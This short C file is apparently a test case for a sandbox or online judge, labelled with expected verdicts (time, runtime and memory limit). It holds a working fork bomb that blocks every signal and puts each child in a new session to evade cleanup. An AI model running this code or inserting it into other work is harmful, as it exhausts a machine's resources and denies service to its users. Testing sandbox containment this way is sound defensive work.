// attack: fork bomb in sessions of their own, all signals blocked
// verdict: TLE RTE MLE
// The kernel frees what a refused fork took only later: on a busy machine that reaches the memory limit first.
#include "attack.h"
ATTACK {
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    for (;;) if (fork() == 0) setsid();
}
